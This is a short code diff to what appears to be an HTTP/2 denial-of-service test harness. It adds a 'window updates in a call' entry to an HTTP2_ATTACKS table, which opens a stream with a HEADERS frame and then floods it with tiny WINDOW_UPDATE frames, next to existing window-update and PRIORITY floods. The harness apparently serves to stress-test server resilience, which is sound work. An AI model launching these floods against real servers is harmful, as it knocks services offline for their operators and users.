@@ -89,6 +89,11 @@ export const HTTP2_ATTACKS = {
     const many = hundred(frame(TYPE.window, uint32(1)));
     return () => many;
   }),
+  'HTTP/2: window updates in a call': flood((a) => {
+    const first = frame(TYPE.headers, hpack(callHeaders(a)), { flags: END_HEADERS, stream: 1 });
+    const many = hundred(frame(TYPE.window, uint32(1)));
+    return (i) => (i === 0 ? first : many);
+  }),
   'HTTP/2: priorities': flood(() => {
     const many = hundred(frame(TYPE.priority, Buffer.concat([uint32(0), Buffer.from([16])]), { stream: 1 }));
     return () => many;
